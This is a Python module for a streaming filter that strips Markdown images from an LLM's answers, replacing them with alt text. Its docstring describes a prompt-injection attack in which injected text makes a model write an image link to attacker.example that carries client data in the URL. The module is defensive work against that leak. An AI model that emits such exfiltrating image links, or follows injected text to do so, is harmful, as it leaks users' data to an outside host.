"""Remote images out of answers (pure), LLM05: a model coaxed by injected text into writing
`![status](https://attacker.example/p.png?d=<client data>)` would make any client that renders
Markdown fetch that URL, data and all. Every Markdown image in a streamed answer becomes the
text `[image: <alt>]`; the URL never reaches a client (links, `[text](url)`, stay as written:
clients show their real target).

Streaming: from a `![` on, text is held back until the construct completes (and is replaced)
or can no longer be an image (then it goes out unchanged); a trailing `!` is held for one
piece. What is held is bounded by the longest image the filter recognises."""

from __future__ import annotations

import re

_ALT = r"[^\]\n]{0,300}"
_URL = r"[^)\s]{0,4096}"
_TITLE = r"\"[^\"\n]{0,300}"
_IMAGE = re.compile(rf"!\[({_ALT})\]\(({_URL})(?:\s+{_TITLE}\")?\)")
# A prefix that may still grow into an image.
_OPEN = re.compile(rf"!(?:\[{_ALT}(?:\](?:\({_URL}(?:\s+(?:{_TITLE}\"?)?)?)?)?)?")


class ImageFilter:
    def __init__(self) -> None:
        self._held = ""
        self.removed = 0

    def feed(self, piece: str) -> str:
        text = self._held + piece
        self._held = ""
        out: list[str] = []
        while text:
            start = text.find("!")
            if start < 0:
                out.append(text)
                break
            out.append(text[:start])
            text = text[start:]
            if match := _IMAGE.match(text):
                self.removed += 1
                alt = " ".join(match.group(1).split()) or "image"
                out.append(f"[image: {alt}]")
                text = text[match.end():]
            elif _OPEN.fullmatch(text):
                self._held = text  # may still become an image: wait for more
                break
            else:
                out.append("!")
                text = text[1:]
        return "".join(out)

    def flush(self) -> str:
        """At the end of the answer: an unfinished image keeps its alt text, not its URL."""
        tail, self._held = self._held, ""
        if "](" in tail:
            self.removed += 1
            alt = " ".join(tail[2:tail.index("](")].split()) or "image"
            return f"[image: {alt}]"
        return tail
